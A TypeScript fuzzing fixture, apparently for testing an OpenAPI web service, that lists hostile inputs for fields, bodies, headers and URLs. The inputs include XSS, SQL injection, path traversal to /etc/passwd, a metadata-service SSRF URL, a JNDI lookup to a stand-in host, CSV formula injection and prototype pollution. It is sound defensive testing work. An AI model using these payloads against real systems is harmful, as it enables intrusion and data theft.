import fc from 'fast-check';
import type { Schema } from '../helpers/openapi.js';

/** Would run, if a page showed it as it came. */
export const wouldRun = ['<img src=x onerror=fuzz()>', '<script>fuzz()</script>'];

/** Stands for a value nested so deep that whoever follows it by calling itself runs out of stack. */
export const deep = '(nested deep)';
export const deepText = `${'['.repeat(20_000)}${']'.repeat(20_000)}`;

const loneSurrogate = '\ud800';

export const hostileTexts: readonly string[] = [
  '',
  ' ',
  '\u0000',
  `a\u0000b`,
  loneSurrogate,
  `a\udc00b`,
  '\ufeff\u202e\u200b',
  'e\u0301'.repeat(300),
  '👩🏽‍🔧'.repeat(200),
  'ſtudıo ÅΩ',
  'x'.repeat(100_000),
  ...wouldRun,
  `"'>${wouldRun.join('')}`,
  "' OR '1'='1' --",
  "'; DROP TABLE clients; --",
  '$1',
  '%',
  '\\',
  '=HYPERLINK("http://fuzz.example","x")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '../../../../etc/passwd',
  '..\\..\\secrets',
  'file:///etc/passwd',
  'http://169.254.169.254/',
  'a\r\nBcc: everybody@fuzz.example',
  '${jndi:ldap://fuzz.example/a}',
  '{{7*7}}',
  '(?<x>a+)+$',
  '__proto__',
  'constructor',
  'toString',
  'null',
  'NaN',
  '-1',
  '1e400',
  '9'.repeat(40),
  '0x1f',
  '2026-02-30',
  '0000-00-00',
  '1900-01-01',
  '2099-12-31',
  '2026-13-01T00:00:00Z',
  '0001-01-01T00:00:00Z',
  '9999-12-31T23:59:59.999Z',
  '2026-03-02T09:00:00+14:59',
  '2026-03-29T02:30:00Z',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  '0199D000-0000-7000-8000-00000000FFFF',
];

/** JSON.parse, so that `__proto__` is a name like any other. */
const hostileObjects: readonly unknown[] = [
  '{"__proto__":{"polluted":true}}',
  '{"constructor":{"prototype":{"polluted":true}}}',
  '{"toString":1,"valueOf":null}',
  '{"length":1000000000}',
  '{"$ne":null}',
  '{"":""}',
  '{"\\u0000":1}',
].map((text): unknown => JSON.parse(text));

const hostileNumbers = [
  ...[-1, 0, -0, 0.1, 1.5, 2 ** 31, -(2 ** 31) - 1, 2 ** 53 + 2, 1e21, 1e308, -1e308, 5e-324],
];

/** What a field does not expect; some of it may be right by chance. */
export const hostileValues: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...hostileTexts) },
  { weight: 2, arbitrary: fc.constantFrom(...hostileNumbers) },
  { weight: 2, arbitrary: fc.constantFrom<unknown>(null, true, false, [], {}, [null], [[]], deep) },
  { weight: 2, arbitrary: fc.constantFrom(...hostileObjects) },
  { weight: 1, arbitrary: fc.constant(Array.from({ length: 20_000 }, () => 0)) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
  { weight: 1, arbitrary: fc.jsonValue() },
  { weight: 1, arbitrary: fc.double() },
);

/** The last values a schema allows, and the first it does not. */
export function edgesOf({ minimum, maximum, maxLength, enum: allowed }: Schema): unknown[] {
  return [
    ...(minimum === undefined ? [] : [minimum, minimum - 1, minimum + 0.000_000_1]),
    ...(maximum === undefined ? [] : [maximum, maximum + 1, maximum - 0.000_000_1]),
    ...(maxLength === undefined ? [] : ['é'.repeat(maxLength), 'é'.repeat(maxLength + 1)]),
    ...(allowed ?? []),
  ];
}

/** In place of JSON. */
export const hostileBodies: readonly string[] = [
  '',
  '{',
  '{"a":',
  '{"a":1}}',
  "{'a':1}",
  '\ufeff{}',
  'null',
  '"text"',
  '[]',
  '[{}]',
  '1e999',
  '{"a":1,"a":2}',
  '{"__proto__":null}',
  '{"a":"\\ud800"}',
  '\u0000',
  deepText,
  `{"a":${deepText}}`,
  `{"a":"${'x'.repeat(300_000)}"}`,
  'a=1&a=2&__proto__=3',
  `--b\r\nContent-Disposition: form-data; name="file"; filename="../../${wouldRun[0] ?? ''}"\r\n\r\nx\r\n--b--`,
  '%PDF-1.7',
  'a,b\n=1+1,"\n',
];

export const hostileMediaTypes: readonly string[] = [
  'text/plain',
  'text/html',
  'application/xml',
  'application/x-www-form-urlencoded',
  'multipart/form-data',
  'multipart/form-data; boundary=b',
  'application/json; charset=utf-16',
  'application/json, text/html',
  'application/problem+json',
  'application/octet-stream',
  'text/csv',
  'message/rfc822',
  '',
  ';',
  'x'.repeat(2_000),
];

/** What can be sent in a header at all; the rest is tried on a bare connection. */
export const hostileHeaderValues: readonly string[] = [
  '',
  ' ',
  '"',
  '*',
  '""',
  'W/"1"',
  '"-1"',
  '"1", "2"',
  '"99999999999999999999"',
  '1e3',
  'x'.repeat(5_000),
  '\xff\xfe',
  "' OR 1=1",
  ...wouldRun,
  'null',
  '__proto__',
];

/** For an address; half a character becomes the sign for one that cannot be read. */
export const percent = (text: string): string => encodeURIComponent(Buffer.from(text).toString());

/** Hostile texts as they stand in an address, well encoded or not. */
export const hostileInAddress: readonly string[] = [
  ...hostileTexts.map(percent).filter(({ length }) => length <= 10_000),
  ...['%', '%zz', '%00', '%ed%a0%80', '%ff%fe', '%2e%2e%2f', '%252e%252e%252f', '+', '&', ';x=1', '//', '/'],
];
